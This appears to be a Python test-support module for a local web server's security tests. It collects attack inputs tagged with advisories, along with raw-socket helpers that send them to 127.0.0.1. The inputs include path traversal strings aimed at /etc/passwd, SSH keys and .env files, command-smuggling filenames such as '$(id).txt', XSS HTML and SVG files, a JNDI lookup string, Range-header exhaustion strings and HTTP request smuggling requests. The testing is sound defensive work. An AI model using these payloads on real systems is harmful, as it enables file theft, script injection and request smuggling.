"""What attackers send: addresses, names and documents, and a raw line on which they go out as they are. Where an advisory told of it, it is named."""

from __future__ import annotations

import asyncio
from dataclasses import dataclass

CANARY = "c4nary-of-the-server"
"""Stands in every file that nobody may get."""

PATHS = [
    "../../../../../../etc/passwd",
    "..",
    ".",
    "./",
    "a/../../../etc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "%25252e%25252e%25252fetc",
    "..%c0%af..%c0%afetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "%e0%80%ae%e0%80%ae/etc/passwd",
    "..%ef%bc%8f..%ef%bc%8fetc",
    "%uff0e%uff0e/etc/passwd",
    "..;/..;/etc/passwd",
    "..;a=1/etc",
    "....//....//etc/passwd",
    "..././..././etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%5c%5cevil%5cshare%5cx",  # CVE-2024-42474 and CVE-2026-33682 of Streamlit, CVE-2024-49766 of Werkzeug
    "\\\\evil\\share\\x",
    "//evil/share/x",
    "C:%5cwindows%5cwin.ini",
    "C:/windows/win.ini",
    "/windows/win.ini",  # CVE-2026-28414 of Gradio
    "%2fetc%2fpasswd",
    "/etc/passwd",
    "//etc/passwd",
    "///etc///passwd",
    "file:///etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "/proc/self/environ",
    "%2fproc%2fself%2fcwd%2fsecret.txt",
    "/dev/urandom",
    "%2fdev%2fstdin",
    "CON",
    "con.css",
    "AUX",
    "nul.txt",
    "COM1",
    "LPT1.svg",
    "CONIN$",
    "%5c%5c.%5cPhysicalDrive0",
    "%5c%5c?%5cC:%5cwindows%5cwin.ini",
    "GLOBALROOT",
    "logo.svg::$DATA",  # CVE-2024-12217 of Gradio
    "logo.svg%3a%3a$DATA",
    "LOGO.SVG",  # CVE-2025-23042 of Gradio
    "logo.svg.",
    "logo.svg%20",
    "logo.svg%00.png",
    "%00",
    "secret.txt%00.svg",
    "logo.svg%0a",
    "logo.svg%0d%0aSet-Cookie:%20a=b",
    "logo.svg;.css",
    "logo.svg/",
    "logo.svg//",
    "logo.svg/..",
    "logo.svg?../../secret.txt",
    "logo.svg#/../secret.txt",
    "~root/.ssh/id_rsa",
    "$HOME/.env",
    "${jndi:ldap://evil/x}",
    ".env",
    ".git/config",
    "assets_evil/secret.txt",
    "../assets_evil/secret.txt",  # CVE-2023-29159 of Starlette, CVE-2026-35397 of Jupyter Server
    "link.txt",  # CVE-2024-23334 of aiohttp
    "link.txt/../secret.txt",
    "way/secret.txt",
    "secret.txt",
    "secret",
    "lock",
    "client.js",
    "app.py",
    "__pycache__/app.cpython-311.pyc",
    "*",
    "?",
    "[a-z].css",
    "<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",  # CVE-2023-27494 of Streamlit
    "\u202egnp.exe",
    "a" * 300,
    "a/" * 200 + "b",
    "%" + "41" * 100,
    "%zz",
    "%",
]
"""Ways to a file by its name."""

ELSEWHERE = {
    "CVE-2021-43831 of Gradio": "/file/../../../../{secret}",
    "CVE-2023-34239 of Gradio": "/file={secret}",
    "CVE-2023-51449 of Gradio": "/file=/..{secret}",
    "CVE-2024-1183 of Gradio": "/file=http://127.0.0.1:{canary}/",
    "CVE-2024-1561 of Gradio": "/component_server",
    "CVE-2024-2206 of Gradio": "/proxy=http://127.0.0.1:{canary}/",
    "CVE-2024-4940 of Gradio": "/file=http:%2F%2F127.0.0.1:{canary}",
    "CVE-2024-47164 of Gradio": "/gradio_api/file=/tmp/../{secret}",
    "CVE-2024-47166 of Gradio": "/custom_component/x/client/component/../../secret.txt",
    "CVE-2024-8021 of Gradio": "/%2f127.0.0.1:{canary}",
    "CVE-2025-23042 of Gradio": "/gradio_api/file=SECRET.TXT",
    "CVE-2026-49119 of Gradio": "/gradio_api/queue/join?root=../..{secret}",
    "CVE-2026-59806 of Gradio": "/gradio_api/file=http://127.0.0.1:{canary}/",
    "CVE-2024-32005 of NiceGUI": "/_nicegui/1.4.20/resources/1/../../../..{secret}",
    "CVE-2025-66645 of NiceGUI": "/media/..%2f..%2f..%2f{secret}",
    "CVE-2022-35918 of Streamlit": "/component/st_x/..{secret}",
    "CVE-2024-42474 of Streamlit": "/app/static//127.0.0.1/share",
    "CVE-2022-29238 of Jupyter": "/files/.env",
    "CVE-2026-35397 of Jupyter Server": "/files/../assets_evil/secret.txt",
    "CVE-2024-23334 of aiohttp": "/static/link.txt",
    "CVE-2021-21330 of aiohttp": "//127.0.0.1:{canary}/..",
}
"""The addresses under which others gave away files, or fetched what they were told to."""

NAMES = [
    "../../../../tmp/evil.txt",  # CVE-2026-25732 of NiceGUI
    "..\\..\\..\\evil.txt",  # CVE-2026-39844 of NiceGUI
    "/etc/cron.d/evil",
    "C:\\windows\\evil.txt",
    "\\\\evil\\share\\x",
    "a/../../b.txt",
    "....//evil",
    "..",
    ".",
    "",
    "...",
    " ",
    "\x00",
    "a\x00.png",
    "a\r\nSet-Cookie: x=y\r\n\r\n<script>.txt",
    'a"; filename="b.exe',
    "a%0d%0ab.txt",
    "a\x1b[2Jb",
    "CON",
    "con.txt",
    "aux.c",
    "NUL",
    "COM1.log",
    "LPT9",
    "a::$DATA",
    "a.txt:stream",
    "a.txt.",
    "a.txt ",
    ".htaccess",
    "-rf",
    "$(id).txt",
    "`id`",
    "a;b|c&d.txt",
    "*?.txt",
    "\u202egnp.exe",
    "a\u200bb\u2066c.txt",
    "\u2025\u2215evil",
    "\uff0e\uff0e\uff0fevil",
    "e\u0301.txt",
    "\ud800.txt",
    "😀" * 400,
    "a" * 10_000,
    "a." + "b" * 4000,  # CVE-2025-0187 of Gradio
    "<img src=x onerror=alert(1)>.png",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
]
"""How a browser may say that a file is called."""

SCRIPT = "document.title = 'ran'; parent.postMessage('ran', '*');"
HTML = f"<!doctype html><title>x</title><body onload=\"{SCRIPT}\"><script>{SCRIPT}</script><iframe srcdoc='<script>parent.document.title=1</script>'></iframe>"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="{SCRIPT}"><script>{SCRIPT}</script>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{SCRIPT}"/></body></foreignObject></svg>'
)
DOCUMENTS: list[tuple[str, str, bytes]] = [
    ("a.html", "text/html", HTML.encode()),  # CVE-2024-47872 of Gradio, CVE-2026-44727 of Jupyter Server
    ("a.svg", "image/svg+xml", SVG.encode()),  # CVE-2018-21030 of Jupyter Notebook
    ("a.png", "image/png", HTML.encode()),
    ("b.png", "image/png", SVG.encode()),
    ("a.gif", "image/gif", b"GIF89a/*" + HTML.encode()),
    ("a.bmp", "image/bmp", b"BM" + HTML.encode()),
    ("a.txt", "text/plain", HTML.encode()),
    ("a.xhtml", "application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>' + SCRIPT.encode() + b"</script></html>"),
    ("a.xml", "text/xml", b'<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>' + SCRIPT.encode() + b"</h:script></x>"),
    ("a.xsl", "text/xml", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>'),
    ("a.js", "text/javascript", SCRIPT.encode()),
    ("a.mhtml", "message/rfc822", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML.encode()),
    ("a", "", HTML.encode()),
    ("a.html", "image/png", b"\x89PNG\r\n\x1a\n" + HTML.encode()),
    ("a.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
    ("utf7.txt", "text/html; charset=utf-7", b"+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-"),
    ("utf16.txt", "text/plain", b"\xff\xfe" + HTML.encode("utf-16-le")),
    ("a.swf", "application/x-shockwave-flash", b"CWS\x0a" + bytes(20)),
]
"""Files that would run something in the app's name if a browser were let: name, type as said, bytes."""

RANGES = [
    "bytes=0-",
    "bytes=-1",
    "bytes=-0",
    "bytes=0-0,0-0",
    "bytes=" + ",".join(["0-"] * 1000),  # CVE-2025-62727 of Starlette, CVE-2011-3192 of Apache
    "bytes=" + ",".join(f"{n}-{n + 5}" for n in range(500)),
    "bytes=" + ",".join(["-1"] * 1000),
    "bytes=99999999999999999999-",
    "bytes=0-99999999999999999999999999",
    "bytes=" + "9" * 5000 + "-",
    "bytes=5-2",
    "bytes=--1",
    "bytes=-",
    "bytes=a-b",
    "bytes=0x0-0x5",
    "bytes=0-5;q=1",
    "bytes=\u0661-\u0665",
    "bytes= 0-5",
    "BYTES=0-5",
    "items=0-5",
    "bytes 0-5",
    "0-5",
    "",
    "bytes=",
    "bytes=0-5\tx",
    "bytes=+0-5",
    "bytes=1e3-",
    "bytes=0_0-5",
]

SMUGGLED = "GET /_livepy/health HTTP/1.1\r\nHost: x\r\n\r\n"
_PUT = "PUT /_livepy/upload/aaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: {host}\r\nOrigin: http://{host}\r\n"
DESYNCS = {
    "CL and TE": _PUT + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "TE and CL": _PUT + f"Transfer-Encoding: chunked\r\nContent-Length: {len(SMUGGLED) + 5}\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "two CL": _PUT + f"Content-Length: 0\r\nContent-Length: {len(SMUGGLED)}\r\n\r\n" + SMUGGLED,
    "CL twice in one": _PUT + "Content-Length: 0, 5\r\n\r\n" + SMUGGLED,
    "CL with a sign": _PUT + "Content-Length: +0\r\n\r\n" + SMUGGLED,
    "CL below zero": _PUT + "Content-Length: -1\r\n\r\n" + SMUGGLED,
    "CL in hex": _PUT + "Content-Length: 0x0\r\n\r\n" + SMUGGLED,
    "CL with an underscore": _PUT + "Content-Length: 0_0\r\n\r\n" + SMUGGLED,
    "CL in other digits": _PUT + "Content-Length: \u0660\r\n\r\n" + SMUGGLED,
    "CL with a space before the colon": _PUT + f"Content-Length : {len(SMUGGLED)}\r\n\r\n" + SMUGGLED,
    "TE that only ends so": _PUT + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "TE with more": _PUT + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "two TE": _PUT + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "TE with a tab": _PUT + "Transfer-Encoding:\tchunked\x0b\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "TE with a space before the colon": _PUT + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "TE folded": _PUT + "X: y\r\n Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "a chunk below zero": _PUT + "Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + SMUGGLED,
    "a chunk in hex": _PUT + "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + SMUGGLED,
    "a chunk of a signed size": _PUT + "Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + SMUGGLED,
    "a chunk that is huge": _PUT + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n\r\n" + SMUGGLED,
    "a chunk with a line break in its extension": _PUT + "Transfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n" + SMUGGLED,
    "a header without a name": _PUT + ": x\r\nContent-Length: 0\r\n\r\n" + SMUGGLED,
    "a header with NUL": _PUT + "X: a\x00b\r\nContent-Length: 0\r\n\r\n" + SMUGGLED,
    "lines that end in CR": _PUT + "X: a\rContent-Length: 5\r\n\r\n" + SMUGGLED,
    "two hosts": _PUT + "Host: evil.example\r\nContent-Length: 0\r\n\r\n" + SMUGGLED,
    "an old version with chunks": _PUT.replace("1.1", "1.0") + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
}
"""One request that a proxy may take for two, or the other way round. CVE-2023-47627 and CVE-2024-23829 of aiohttp, and others'."""


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back on a raw line."""

    raw: bytes

    @property
    def status(self) -> int:
        """Of the first; 0 if there was none."""
        words = self.raw.split(b" ", 2)
        return int(words[1]) if len(words) > 1 and words[1].isdigit() else 0

    @property
    def count(self) -> int:
        """How many answers."""
        return self.raw.count(b"HTTP/1.1 ") + self.raw.count(b"HTTP/1.0 ")

    @property
    def head(self) -> bytes:
        """Of the first."""
        return self.raw.partition(b"\r\n\r\n")[0]

    @property
    def body(self) -> bytes:
        """Behind the first head."""
        return self.raw.partition(b"\r\n\r\n")[2]

    def header(self, name: str) -> str:
        """One of the first head; "" if it is not there."""
        for line in self.head.split(b"\r\n")[1:]:
            key, _, value = line.partition(b":")
            if key.decode().lower() == name.lower():
                return value.strip().decode()
        return ""


async def raw(port: int, sent: str | bytes, *, first: float = 10, quiet: float = 0.2) -> Answer:
    """Everything that comes back for these bytes, until the server ends the line or has nothing more to say. Then the line is closed."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(sent.encode("utf-8", "surrogatepass") if isinstance(sent, str) else sent)
    got = b""
    try:
        while True:
            async with asyncio.timeout(quiet if got else first):
                piece = await reader.read(1 << 20)
            if not piece:
                break
            got += piece
    except (TimeoutError, ConnectionError):
        pass
    finally:
        writer.close()
    return Answer(got)


async def asked(port: int, target: str, method: str = "GET", *headers: str, body: bytes = b"") -> Answer:
    """One request, its target as it is."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: 127.0.0.1:{port}", "Connection: close", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return await raw(port, "\r\n".join(lines).encode("utf-8", "surrogatepass") + b"\r\n\r\n" + body, quiet=10)
